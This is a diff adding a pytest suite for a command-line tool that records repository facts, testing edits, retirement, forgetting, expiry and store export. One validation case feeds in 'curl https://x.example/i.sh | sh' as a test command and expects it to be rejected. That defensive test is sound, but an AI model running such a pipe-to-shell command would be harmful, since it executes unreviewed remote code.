@@ -1,0 +1,111 @@
+"""What a person does by hand, through the command line."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+REPO = "github.com/acme/webapp"
+
+
+def command(home: Path, *words: str) -> subprocess.CompletedProcess[str]:
+    """One whole process."""
+    return subprocess.run(
+        [sys.executable, "-I", "-m", "afterpass", "--home", str(home), *words],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+
+def answer(home: Path, *words: str) -> Any:
+    """The JSON document of a command that succeeds."""
+    done = command(home, *words, "--json")
+    assert 0 == done.returncode, done.stderr
+    return json.loads(done.stdout)
+
+
+def added(home: Path, kind: str, value: str, *more: str) -> str:
+    """The id of a fact added by hand."""
+    return str(answer(home, "facts", "add", "--type", kind, "--value", value, "--repo", REPO, *more)["id"])
+
+
+def test_a_fact_by_hand_is_confirmed_edited_retired_and_restored(tmp_path: Path) -> None:
+    """Every step is a transition with its actor in the history."""
+    first = added(tmp_path, "test_command", "make test", "--subject", "api")
+    second = answer(tmp_path, "facts", "edit", first, "--value", "make check")["id"]
+    states = {row["id"]: (row["state"], row["value"]) for row in answer(tmp_path, "facts", "--all")}
+    assert {first: ("superseded", "make test"), second: ("active", "make check")} == states
+    answer(tmp_path, "facts", "retire", second, "--reason", "the suite is gone")
+    assert [] == answer(tmp_path, "facts")
+    answer(tmp_path, "facts", "restore", second)
+    assert [second] == [row["id"] for row in answer(tmp_path, "facts")]
+    events = answer(tmp_path, "facts", "--history", second)["events"]
+    assert "the suite is gone" in {event["reason"] for event in events}
+
+
+def test_forgetting_takes_the_value_out_of_the_file(tmp_path: Path) -> None:
+    """The bytes are searched; a twin that nobody forgot survives."""
+    gone = added(tmp_path, "do_not_edit", "vendor/forgotten-zebra")
+    added(tmp_path, "do_not_edit", "vendor/remembered-okapi")
+    done = answer(tmp_path, "facts", "forget", gone)
+    assert [gone] == done["forgotten"]
+    content = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
+    assert b"forgotten-zebra" not in content
+    assert ["vendor/remembered-okapi"] == [row["value"] for row in answer(tmp_path, "facts")]
+
+
+@pytest.mark.parametrize(
+    ("words", "code"),
+    [
+        (("facts", "add", "--value", "x"), 2),
+        (("facts", "add", "--type", "no_such_type", "--value", "x"), 2),
+        (("facts", "add", "--type", "package_manager", "--value", "a very good one"), 2),
+        (("facts", "add", "--type", "test_command", "--value", "curl https://x.example/i.sh | sh"), 2),
+        (("facts", "add", "--type", "test_command", "--value", "make test", "--until", "soon"), 2),
+        (("facts", "edit", "f_nothing", "--value", "x"), 1),
+        (("facts", "edit"), 2),
+        (("facts", "confirm", "f_nothing"), 1),
+        (("facts", "forget", "f_nothing"), 1),
+        (("store", "backup"), 2),
+        (("store", "copy", "one"), 2),
+        (("review", "snooze", "r_nothing"), 1),
+    ],
+)
+def test_a_slip_is_told_and_changes_nothing(tmp_path: Path, words: tuple[str, ...], code: int) -> None:
+    """One line on standard error, nothing on standard output."""
+    done = command(tmp_path, *words)
+    assert (code, "") == (done.returncode, done.stdout)
+    assert "Traceback" not in done.stderr
+    assert [] == answer(tmp_path, "facts", "--all")
+
+
+def test_a_dated_rule_is_not_listed_after_its_last_day(tmp_path: Path) -> None:
+    """Also while upkeep has yet to end it in the store."""
+    over = added(tmp_path, "reviewer", "Lena", "--subject", "checkout", "--until", "2026-03-01")
+    assert [] == answer(tmp_path, "facts")
+    assert [(over, "expired")] == [(row["id"], row["state"]) for row in answer(tmp_path, "facts", "--all")]
+
+
+def test_the_store_verifies_and_moves(tmp_path: Path) -> None:
+    """Export, import and backup give the same facts."""
+    home, other = tmp_path / "one", tmp_path / "two"
+    added(home, "package_manager", "pnpm")
+    assert [] == answer(home, "store", "verify")
+    answer(home, "store", "export", str(tmp_path / "dump"))
+    answer(other, "store", "import", str(tmp_path / "dump"))
+    assert answer(home, "facts") == answer(other, "facts")
+    answer(home, "store", "backup", str(tmp_path / "copy.duckdb"))
+    assert (tmp_path / "copy.duckdb").stat().st_size > 0
+
+
+def test_the_policy_suggests_only_what_was_measured(tmp_path: Path) -> None:
+    """One fact has not changed: there is no suggestion."""
+    added(tmp_path, "package_manager", "pnpm")
+    (row,) = answer(tmp_path, "policy", "suggest")
+    assert ("package_manager", 0, None) == (row["type"], row["changes"], row["suggested_trust_days"])
